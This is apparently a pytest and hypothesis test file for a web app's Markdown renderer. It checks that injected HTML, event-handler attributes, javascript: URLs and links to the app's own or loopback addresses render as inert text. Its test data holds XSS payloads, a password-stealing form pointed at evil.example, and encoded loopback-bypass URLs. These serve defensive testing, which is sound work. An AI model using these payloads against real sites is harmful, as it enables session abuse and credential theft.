"""Issue 8, item 3: rendered text is safe. Every payload of the corpus through `render_markdown`, checked by parsing
the HTML: no active element, no on* attribute, no URL to our own origin, relative or with a script scheme, and
every remaining link opens another site in a new tab without an opener or referrer.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from render_corpus import HELD_BEFORE, PAYLOADS, parse, problems, url_problem

from app.ui.render import render_markdown


@pytest.mark.parametrize("name", sorted({**PAYLOADS, **HELD_BEFORE}))
def test_payload_renders_to_nothing_active(name):
    payload = {**PAYLOADS, **HELD_BEFORE}[name]
    html = render_markdown(payload)
    assert problems(html) == [], html


def test_the_checker_catches_what_the_old_rendering_let_through():
    """The check above can fail: it flags the HTML the old neutralise_html + gr.Markdown produced."""
    assert problems('<p><img src="/ui/logout" alt="x"></p>') == ["<img> element", "src='/ui/logout' on <img>: "
                                                                   "relative URL"]
    assert "<form> element" in problems("<form action=https://evil.example><input name=password></form>")
    assert "onload attribute on <svg>" in problems('<svg onload="x()"></svg>')
    assert problems('<a href="https://example.org/">a</a>') == [
        "link 'https://example.org/' without rel=noopener / target=_blank"]
    assert url_problem("javascript:alert(1)") and url_problem("//127.0.0.1/x") and url_problem("http://localhost/")


def test_html_in_the_text_shows_as_text():
    _, text = parse(render_markdown(HELD_BEFORE["script"] + " " + PAYLOADS["escaped_backtick_form"]))
    assert "<script>window.__pwned = 1</script>" in text
    assert "<form action=https://evil.example/steal><input name=password" in text


def test_an_image_shows_as_its_alt_text_and_loads_nothing():
    html = render_markdown("see ![a *chart*](https://evil.example/t.png) and ![](/ui/logout)")
    assert parse(html)[1].strip() == "see [image: a chart] and [image]"


def test_a_link_to_another_site_opens_in_a_new_tab_without_opener_or_referrer():
    elements, text = parse(render_markdown("[docs](https://example.org/x?a=1&b=2) or <mailto:help@example.org>"))
    links = [attrs for tag, attrs in elements if tag == "a"]
    assert links == [
        {"href": "https://example.org/x?a=1&b=2", "target": "_blank", "rel": "noopener noreferrer nofollow"},
        {"href": "mailto:help@example.org", "target": "_blank", "rel": "noopener noreferrer nofollow"},
    ]
    assert text.strip() == "docs or mailto:help@example.org"


@pytest.mark.parametrize("url", ["/ui/logout", "/api/users", "//evil.example/x", "http://127.0.0.1:7860/admin",
                                 "http://localhost/ui/logout", "http://127.1/", "http://0x7f.1/", "http://[::1]/",
                                 "http://10.0.0.5:7860/ui/logout", "http://annotate-box/ui/logout",
                                 "http://app.localhost/ui/logout", "http://evil.example%5C@127.0.0.1/"])
def test_a_link_to_our_own_server_or_a_relative_one_is_plain_text(url):
    html = render_markdown(f"[click here]({url})")
    assert html.strip() == "<p>click here</p>"


# Pieces of Markdown, HTML and URLs that the attacks above are made of, for the property test below.
FRAGMENTS = ["<", ">", "`", "```", "~~~", "\\", "![", "[", "]", "(", ")", "]: ", "/ui/logout", "javascript:", "data:",
             "http://127.0.0.1:7860/", "https://evil.example/x", "//", "<img src=x onerror=f()>", "<form>",
             "<input>", "<svg onload=f()>", "<a href=/admin>", "&#60;", "&lt;", "&#47;", "*", "_", "|", "- ", "1. ",
             "> ", "    ", "\n", "\n\n", " ", "x", '"', "'", "=", "<http://localhost/ui/logout>", "mailto:a@b.c"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_any_mix_of_the_pieces_renders_to_nothing_active(text):
    assert problems(render_markdown(text)) == []
